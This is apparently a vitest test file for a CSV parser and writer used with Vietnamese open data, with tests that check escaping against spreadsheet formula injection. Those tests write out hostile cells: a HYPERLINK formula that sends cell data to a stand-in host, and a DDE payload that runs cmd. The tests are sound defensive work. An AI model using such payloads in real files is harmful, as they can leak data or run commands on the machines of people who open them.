import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CsvSyntaxError, csvCell, decodeUtf8, neutraliseFormula, parseCsv } from './csv.ts';

describe('parseCsv', () => {
  it('reads a header and rows, with BOM and CRLF as Excel writes them', () => {
    const rows = parseCsv('\uFEFFcode,name\r\nP09,Phương Sài\r\nP10,"Phương Sơn, Nha Trang"\r\n');
    expect(rows).toEqual([
      { line: 1, fields: ['code', 'name'] },
      { line: 2, fields: ['P09', 'Phương Sài'] },
      { line: 3, fields: ['P10', 'Phương Sơn, Nha Trang'] },
    ]);
  });

  it('keeps the physical line number after a quoted field with a line break', () => {
    const rows = parseCsv('a,b\n"x\ny",1\nz,2\n');
    expect(rows.map((r) => r.line)).toEqual([1, 2, 4]);
    expect(rows[1]!.fields).toEqual(['x\ny', '1']);
  });

  it('reads doubled quotes and empty fields', () => {
    expect(parseCsv('a,b,c\n"say ""hi""",,\n')[1]!.fields).toEqual(['say "hi"', '', '']);
  });

  it('skips blank lines but counts them', () => {
    expect(parseCsv('a\n\nb\n').map((r) => [r.line, r.fields[0]])).toEqual([
      [1, 'a'],
      [3, 'b'],
    ]);
  });

  it('switches to semicolons when the header uses them (Vietnamese-locale Excel)', () => {
    expect(parseCsv('code;name\nP09;Phương Sài')[1]!.fields).toEqual(['P09', 'Phương Sài']);
  });

  it('names the line of an unclosed quote', () => {
    expect(() => parseCsv('a,b\n1,2\n"open,3\n')).toThrowError(CsvSyntaxError);
    try {
      parseCsv('a,b\n1,2\n"open,3\n');
    } catch (e) {
      expect((e as CsvSyntaxError).line).toBe(3);
    }
  });

  it('round-trips any table written with csvCell', () => {
    const cell = fc.string({ unit: fc.constantFrom('a', 'ư', ',', '"', '\n', '\r\n', ' ', ';') });
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }),
        (table) => {
          const rows = table.map((r) => [...r.slice(0, -1), `x${r.at(-1)}`]); // never a blank line
          const text = ['h1,h2', ...rows.map((r) => r.map(csvCell).join(','))].join('\r\n');
          // A cell starting with CR reads back behind its formula guard (an apostrophe).
          const expected = rows.map((r) => r.map((c) => (c.startsWith('\r') ? `'${c}` : c)));
          expect(
            parseCsv(text, ',')
              .slice(1)
              .map((r) => r.fields),
          ).toEqual(expected);
        },
      ),
    );
  });
});

describe('formula injection (open data opened in a spreadsheet)', () => {
  it('neutralises every cell a spreadsheet would run as a formula, and keeps numbers numbers', () => {
    expect(csvCell('=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")')).toBe(
      `"'=HYPERLINK(""http://x.example/?""&A1,""Bấm vào đây"")"`,
    );
    expect(csvCell('+1+1')).toBe("'+1+1");
    expect(csvCell('-2+3+cmd|" /C calc"!A0')).toBe(`"'-2+3+cmd|"" /C calc""!A0"`);
    expect(csvCell('@SUM(A1:A2)')).toBe("'@SUM(A1:A2)");
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvCell('UBND xã An = tốt')).toBe('UBND xã An = tốt');
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell('-12.5')).toBe('-12.5');
    expect(csvCell('+84')).toBe('+84');
    expect(neutraliseFormula('-')).toBe("'-");
  });
});

describe('decodeUtf8', () => {
  it('rejects bytes that are not UTF-8 (e.g. a Windows-1258 file)', () => {
    expect(decodeUtf8(new Uint8Array([0x50, 0xf0, 0x28]))).toBeNull();
    expect(decodeUtf8(new TextEncoder().encode('Sài'))).toBe('Sài');
  });
});
